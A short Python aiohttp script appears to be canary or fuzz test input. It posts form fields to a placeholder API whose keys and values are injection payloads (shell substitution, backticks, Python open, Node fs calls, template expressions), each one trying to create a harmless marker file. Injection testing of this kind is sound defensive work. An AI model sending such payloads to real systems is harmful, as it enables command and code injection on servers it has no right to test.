import asyncio

import aiohttp

url = "https://api.example.com/form"
data = {
    "a'$(touch${IFS}snipgen-canary)'": "`touch${IFS}snipgen-canary`",
    "' open('snipgen-canary','w') '": '";touch${IFS}snipgen-canary;"',
    "${require('fs').writeFileSync('snipgen-canary','')}": "{${touch('snipgen-canary')}}",
    "`": "\\",
}


async def main():
    async with aiohttp.ClientSession() as session:
        async with session.post(url, data=data) as response:
            print(await response.text())


asyncio.run(main())
